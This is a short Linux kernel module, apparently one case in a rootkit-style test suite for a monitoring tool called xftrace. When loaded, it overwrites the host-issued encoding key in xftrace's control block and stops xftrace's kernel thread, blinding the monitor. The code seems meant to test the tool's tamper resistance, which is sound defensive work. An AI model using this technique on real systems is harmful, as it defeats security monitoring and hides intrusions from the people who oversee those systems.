// SPDX-License-Identifier: GPL-2.0
/*
 * 6. Attack xftrace itself: overwrite the key the host wrote into the
 * control block (records are then encoded with a key the host never issued)
 * and stop the xftrace kernel thread.
 */
#include <linux/module.h>
#include <linux/sched/signal.h>
#include <linux/kthread.h>
#include "rk_common.h"

static int __init rk_init(void)
{
	u64 *ctl = (u64 *)rk_lookup("xftrace_control");
	struct task_struct *t;
	u64 epoch;

	if (!ctl)
		return -ENOENT;
	/* cur_epoch at 0x100, key slots {epoch, key} from 0x110 */
	epoch = READ_ONCE(ctl[0x100 / 8]);
	WRITE_ONCE(ctl[0x110 / 8 + (epoch % 16) * 2 + 1], 0x5eedbadc0ffee000ULL);
	rcu_read_lock();
	for_each_process(t) {
		if (!strcmp(t->comm, "xftrace") && (t->flags & PF_KTHREAD)) {
			get_task_struct(t);
			rcu_read_unlock();
			kthread_stop(t);
			put_task_struct(t);
			pr_info("rk_blind: key rewritten, xftrace thread stopped\n");
			return 0;
		}
	}
	rcu_read_unlock();
	pr_info("rk_blind: key rewritten\n");
	return 0;
}

module_init(rk_init);
MODULE_LICENSE("GPL");
